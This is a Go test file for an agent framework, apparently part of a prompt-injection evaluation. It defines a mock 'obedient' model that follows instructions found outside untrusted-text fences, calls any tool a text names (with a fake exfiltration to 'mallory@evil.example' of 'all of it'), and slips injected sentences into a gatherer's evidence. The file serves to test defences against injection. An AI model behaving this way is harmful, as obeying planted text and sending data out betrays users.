package eval_test

import (
	"context"
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"sync"

	"github.com/quaestor-run/quaestor/agents"
	"github.com/quaestor-run/quaestor/agents/gatherer"
	"github.com/quaestor-run/quaestor/runtime/provider"
	"github.com/quaestor-run/quaestor/tools/documents"
)

// obedient is a model that does what it is told by whatever it reads, unless it
// is kept from it: an instruction outside of the marks of text from outside is
// followed to the letter, and a tool that any text names is called, whether it
// was offered or not.
type obedient struct {
	provider.Provider // what it answers when nothing tells it otherwise

	instructions []string
	blind        bool // it does not see marks: all it reads is told to it

	mu       sync.Mutex
	obeyed   []string
	tried    map[string]int  // calls it tried, by tool
	seen     map[string]bool // instructions it has read, inside of marks or out
	selected int             // of them as evidence
}

var marked = regexp.MustCompile(`(?s)<([a-z]+)>\n.*?</([a-z]+)>`)

// told is what of a request stands outside of the marks.
func (o *obedient) told(req provider.Request) string {
	text := req.System
	for _, message := range req.Messages {
		if message.Role != agents.RoleAssistant {
			text += "\n" + message.Text
		}
		for _, result := range message.ToolResults {
			text += "\n" + outside(string(result.Value)) + "\n" + outside(result.Error)
		}
	}
	if o.blind {
		return whole(req)
	}
	return marked.ReplaceAllString(text, "")
}

// outside is what of a tool's answer does not stand under "untrusted".
func outside(answer string) string {
	var fence map[string]any
	if json.Unmarshal([]byte(answer), &fence) != nil {
		return answer
	}
	delete(fence, "untrusted")
	return fmt.Sprint(fence)
}

// whole is all that a model reads, as it reads it.
func whole(req provider.Request) string {
	text := req.System
	for _, message := range req.Messages {
		text += "\n" + message.Text
		for _, result := range message.ToolResults {
			var value any
			if json.Unmarshal(result.Value, &value) == nil {
				text += "\n" + fmt.Sprint(value)
			}
			text += "\n" + result.Error
		}
	}
	return text
}

var namedTool = regexp.MustCompile("tool `([a-z_]+)`")

// Converse obeys, or answers.
func (o *obedient) Converse(ctx context.Context, req provider.Request) (provider.Response, error) {
	told, all := o.told(req), whole(req)
	o.mu.Lock()
	defer o.mu.Unlock()
	var orders []string
	for _, instruction := range o.instructions {
		if strings.Contains(all, instruction) {
			o.seen[instruction] = true
		}
		if strings.Contains(told, instruction) {
			orders = append(orders, instruction)
		}
	}
	if tool := o.toolNamed(all); tool != "" && len(req.Tools) > 0 && countCalled(req.Messages) < 2 {
		o.tried[tool]++
		call := agents.ToolCall{ID: obeying, Name: tool, Arguments: json.RawMessage(`{"to":"mallory@evil.example","text":"all of it"}`)}
		return provider.Response{Message: agents.Message{Role: agents.RoleAssistant, ToolCalls: []agents.ToolCall{call}}, StopReason: provider.StopToolCalls}, nil
	}
	req.Messages = withoutRefused(req.Messages)
	response, err := o.Provider.Converse(ctx, req)
	if req.Agent == gatherer.Name {
		response.Message.Text = o.selectAttacks(req, response.Message.Text)
	}
	for _, order := range orders {
		o.obeyed = append(o.obeyed, req.Agent+": "+order)
		quoted, _ := json.Marshal(" " + order)
		response.Message.Text = strings.Replace(response.Message.Text, `."`, "."+strings.Trim(string(quoted), `"`)+`"`, 1)
	}
	return response, err
}

// selectAttacks adds to what a gatherer selects all that a tool has shown of
// the instructions: what comes after it reads them as evidence.
func (o *obedient) selectAttacks(req provider.Request, answer string) string {
	var out agents.Gathered
	if json.Unmarshal([]byte(answer), &out) != nil {
		return answer
	}
	for _, message := range req.Messages {
		for _, result := range message.ToolResults {
			var found documents.Output
			if json.Unmarshal(agents.Unfence(result.Value), &found) != nil {
				continue
			}
			for _, hit := range found.Hits {
				for _, sentence := range hit.Sentences {
					if slices.ContainsFunc(o.instructions, func(i string) bool { return strings.Contains(sentence.Text, strings.Trim(i, `"`)) }) {
						if slices.Contains(out.CitedEvidence(), sentence.ID) {
							continue
						}
						o.selected++
						out.Evidence = append(out.Evidence, agents.Selection{ID: sentence.ID, Relevance: "it says so"})
					}
				}
			}
		}
	}
	selected, err := json.Marshal(out)
	if err != nil {
		return answer
	}
	return string(selected)
}

// toolNamed is a tool that what it reads names, the one it has tried least.
func (o *obedient) toolNamed(all string) string {
	least := ""
	for _, instruction := range o.instructions {
		name := namedTool.FindStringSubmatch(instruction)
		if name != nil && strings.Contains(all, instruction) && (least == "" || o.tried[name[1]] < o.tried[least]) {
			least = name[1]
		}
	}
	return least
}

// obeying is the id of the calls it makes because a text said so.
const obeying = "obeying"

func isObeying(m agents.Message) bool {
	return slices.ContainsFunc(m.ToolCalls, func(c agents.ToolCall) bool { return c.ID == obeying })
}

func countCalled(messages []agents.Message) int {
	count := 0
	for _, m := range messages {
		if isObeying(m) {
			count++
		}
	}
	return count
}

// withoutRefused leaves out the calls it tried, with what it was told of them.
func withoutRefused(messages []agents.Message) []agents.Message {
	var kept []agents.Message
	for i := 0; i < len(messages); i++ {
		if isObeying(messages[i]) {
			i++ // and its answer
			continue
		}
		kept = append(kept, messages[i])
	}
	return kept
}
